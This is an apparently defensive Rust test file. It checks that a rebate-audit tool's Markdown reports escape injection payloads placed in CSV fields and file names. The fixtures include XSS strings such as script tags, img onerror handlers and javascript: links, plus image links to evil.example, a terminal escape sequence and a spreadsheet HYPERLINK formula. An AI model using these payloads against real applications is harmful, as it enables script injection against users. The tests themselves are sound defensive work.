            let id = inside.split_once('-').is_some_and(|(kind, hash)| {
                kind.chars().all(|c| c.is_ascii_lowercase() || c == '_')
                    && hash.len() == 12
                    && hash.chars().all(|c| c.is_ascii_hexdigit())
            });
            assert!(id, "{place}: a code span around `{inside}`");
        }
        // A table row has as many cells as its table's header.
        if line.starts_with('|') {
            assert!(pipes >= 2, "{place}");
        }
        // Text after a line break in an input never starts a line (heading, quote,
        // list item, table row of its own).
        let start = line.trim_start_matches(['#', '>', '-', '|', '*', '+', ' ']);
        assert!(
            !start.starts_with("INJECTED") && !start.starts_with("&gt; INJECTED"),
            "{place}: an input's second line became a line of the report"
        );
        // Emphasis from the inputs stays literal.
        assert!(
            !line.contains("**bold**"),
            "{place}: emphasis from an input"
        );
    }
    // Each table keeps its shape: every row has the header's count of cell separators.
    let mut header_pipes: Option<usize> = None;
    for line in text.lines() {
        if !line.starts_with('|') {
            header_pipes = None;
            continue;
        }
        let mut count = 0;
        let mut chars = line.chars();
        while let Some(character) = chars.next() {
            match character {
                '\\' => {
                    chars.next();
                }
                '|' => count += 1,
                _ => {}
            }
        }
        match header_pipes {
            None => header_pipes = Some(count),
            Some(expected) => assert_eq!(count, expected, "{name}: a broken table row: {line}"),
        }
    }
}

/// Where research R3's payloads reach the Markdown reports beyond the injection fixtures:
/// a contract whose id, customer, agent, tax id, account and product names are payloads
/// (with line breaks, emphasis, code, a terminal escape), billed from a file and loaded from
/// a folder whose names are payloads, paid by a payout whose id has a line break and whose
/// invoice issuer is a payload (so an invoice check quotes it).
const EVIL_ID: &str = "C<script>alert(1)</script>|[x](javascript:alert(1))";

fn markdown_run(fixture: &Fixture) -> (Limited, String) {
    let account = "A<b>1|`x`";
    let product = "ECS ![x](http://evil.example/p.png) **bold**";
    let book = Book::default()
        .contract(
            common::contract(EVIL_ID)
                .set(
                    "customer",
                    "Acme\n# INJECTED heading\n<script>alert(2)</script>\u{1b}[2J",
                )
                .set(
                    "agent",
                    "\"><img src=x onerror=alert(1)> **bold** _em_ `code` ~~s~~ $x$",
                )
                .set("agent_tax_id", "[tax](javascript:alert(3))")
                .set("accounts", account)
                .set("invoice", "vat_special")
                .set("tax_rate", "6%"),
        )
        .tier(EVIL_ID, "0", "", "20%")
        .product(EVIL_ID, product, "0.5");
    let contracts = book.write_csv_folder(
        fixture.dir.path(),
        "contracts <img src=x onerror=alert(4)> ![c](http://evil.example/c.png)",
    );
    let billing = fixture.write(
        "bill <img src=x onerror=alert(5)> [x](javascript:alert(1)) |.csv",
        common::billing_csv(&[
            (account, "2025-01", product, "10000.00", "CNY"),
            (
                account,
                "2025-01",
                "line1\n# INJECTED product\n| a | b |\n> INJECTED quote",
                "5.00",
                "CNY",
            ),
        ]),
    );
    let payouts = fixture.write(
        "payouts.csv",
        common::payouts_csv(
            &[
                "payout_id",
                "contract_id",
                "paid_on",
                "amount",
                "invoice_no",
                "invoice_date",
                "invoice_amount",
                "invoice_tax_rate",
                "invoice_type",
                "invoice_issuer",
            ],
            &[&[
                "P<1>\n> INJECTED quote\n- INJECTED item",
                EVIL_ID,
                "2025-02-15",
                "100.00",
                "INV-<i>1</i>",
                "2025-02-15",
                "100.00",
                "6%",
                "vat_special",
                "<img src=x onerror=alert(6)>\n# INJECTED issuer",
            ]],
        ),
    );
    let inputs: Vec<OsString> = vec![
        "--contracts".into(),
        contracts.into(),
        "--billing".into(),
        billing.into(),
        "--payouts".into(),
        payouts.into(),
        "--as-of".into(),
        "2025-06-30".into(),
    ];
    let mut args: Vec<OsString> = vec!["run".into(), "--evidence".into()];
    args.extend(inputs.iter().cloned());
    let run = run_limited(fixture, &args);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let explain = Command::new(env!("CARGO_BIN_EXE_rebate-audit"))
        .arg("explain")
        .arg("--contract")
        .arg(EVIL_ID)
        .args(&inputs)
        .env_remove("REBATE_AUDIT_LOG")
        .output()
        .expect("explain runs");
    assert_eq!(
        explain.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&explain.stderr)
    );
    (run, String::from_utf8(explain.stdout).unwrap())
}

/// Every Markdown file of a run: `summary.md`, `evidence/<contract>.md` and the packs'
/// `trail.md` (`packs/<contract>/trail.md`).
fn markdown_files(out: &Path) -> Vec<(String, String)> {
    let mut files = vec![out.join("summary.md")];
    for entry in std::fs::read_dir(out.join("evidence")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|extension| extension == "md") {
            files.push(path);
        }
    }
    for entry in std::fs::read_dir(out.join("packs")).into_iter().flatten() {
        let path = entry.unwrap().path();
        if path.join("trail.md").is_file() {
            files.push(path.join("trail.md"));
        }
    }
    files
        .into_iter()
        .map(|path| {
            (
                path.display().to_string(),
                std::fs::read_to_string(&path).unwrap(),
            )
        })
        .collect()
}

#[test]
fn injection_payloads_are_inert_in_the_markdown_reports() {
    // The corpus payloads, as products, accounts and payouts of the standard contract.
    let fixture = Fixture::new();
    let run = injection_run(&fixture);
    let files = markdown_files(&run.out);
    assert!(files.len() >= 2, "summary.md and evidence/C1.md");
    for (name, text) in &files {
        assert_markdown_inert(name, text);
    }
    let all: String = files.iter().map(|(_, text)| text.as_str()).collect();
    // Shown as the characters they are, not dropped.
    for shown in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\"&gt;&lt;img src=x onerror=alert(1)&gt;",
        "a\\|b\\`c\\`!\\[x\\](http&#58;//evil.example/x.png)",
        // `&` before a letter could start an entity.
        "=HYPERLINK(\"http&#58;//x/?\"&amp;A1)",
    ] {
        assert!(all.contains(shown), "{shown} is not shown");
    }

    // Payloads in every other place that reaches a Markdown report, with line breaks.
    let fixture = Fixture::new();
    let (run, explain) = markdown_run(&fixture);
    let mut files = markdown_files(&run.out);
    let packs = files
        .iter()
        .filter(|(name, _)| name.ends_with("trail.md"))
        .count();
    assert_eq!(packs, 1, "one evidence pack: {files:?}");
    assert_eq!(
        &files
            .iter()
            .find(|(name, _)| name.ends_with("trail.md"))
            .unwrap()
            .1,
        &explain,
        "the pack's trail is what explain prints"
    );
    files.push(("explain".into(), explain));
    for (name, text) in &files {
        assert_markdown_inert(name, text);
    }
    let evidence = &files
        .iter()
        .find(|(name, _)| {
            name.ends_with(".md") && name.contains("evidence") && !name.ends_with("trail.md")
        })
        .unwrap()
        .1;
    let trail = &files.last().unwrap().1;
    for (text, shown) in [
        // The contract id, heading the files.
        (
            evidence,
            "# Evidence: contract C&lt;script&gt;alert(1)&lt;/script&gt;\\|\\[x\\](javascript:alert(1))\n",
        ),
        (
            trail,
            "# Contract C&lt;script&gt;alert(1)&lt;/script&gt;\\|\\[x\\](javascript:alert(1))\n",
        ),
        // Names with line breaks stay on their line; the terminal escape is shown.
        (
            evidence,
            "| customer | Acme # INJECTED heading &lt;script&gt;alert(2)&lt;/script&gt;\u{241b}\\[2J |",
        ),
        (
            trail,
            "Acme # INJECTED heading &lt;script&gt;alert(2)&lt;/script&gt;\u{241b}\\[2J / \"&gt;&lt;img",
        ),
        (
            evidence,
            "\\*\\*bold\\*\\* \\_em\\_ \\`code\\` \\~\\~s\\~\\~ \\$x\\$",
        ),
        (evidence, "| accounts | A&lt;b&gt;1\\|\\`x\\` |"),
        // The product of the products sheet and of the bill.
        (
            evidence,
            "| ECS !\\[x\\](http&#58;//evil.example/p.png) \\*\\*bold\\*\\* | 0.5 |",
        ),
        (
            trail,
            "| line1 # INJECTED product \\| a \\| b \\| &gt; INJECTED quote | 5.00 |",
        ),
        // File paths.
        (
            trail,
            "bill &lt;img src=x onerror=alert(5)&gt; \\[x\\](javascript:alert(1)) \\|.csv",
        ),
        (
            evidence,
            "contracts &lt;img src=x onerror=alert(4)&gt; !\\[c\\](http&#58;//evil.example/c.png)/contracts.csv",
        ),
        // The payout id with its line breaks, in the allocations.
        (
            trail,
            "payout P&lt;1&gt; &gt; INJECTED quote - INJECTED item received",
        ),
    ] {
        assert!(text.contains(shown), "{shown}\nnot in:\n{text}");
    }
    // An invoice check quoting the ledger's issuer and the contract's tax id.
    assert!(
        evidence.contains(
            "| invoice_issuer | \\[tax\\](javascript:alert(3)) | &lt;img src=x onerror=alert(6)&gt; # INJECTED issuer | **no** |"
        ),
        "{evidence}"
    );
    // summary.md names the contract, customer and agent.
    let summary = &files[0].1;
    assert!(
        summary.contains("| C&lt;script&gt;alert(1)&lt;/script&gt;\\|\\[x\\](javascript:alert(1)) | Acme # INJECTED heading"),
        "{summary}"
    );
}

#[test]
fn a_sparse_three_gigabyte_file_of_zero_bytes_named_csv_is_refused_from_its_first_bytes() {
    under_limit::strict();
    // It aborted the process: zero bytes are no text, and the file is refused before a
    // line of it is looked for.
    let fixture = Fixture::new();
    let zeros = fixture.path("zeros.csv");
    std::fs::File::create(&zeros)
        .unwrap()
        .set_len(3 * GIB)
        .unwrap();
    let started = std::time::Instant::now();
    refused_file(&zeros, &["binary data, not text"]);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
}
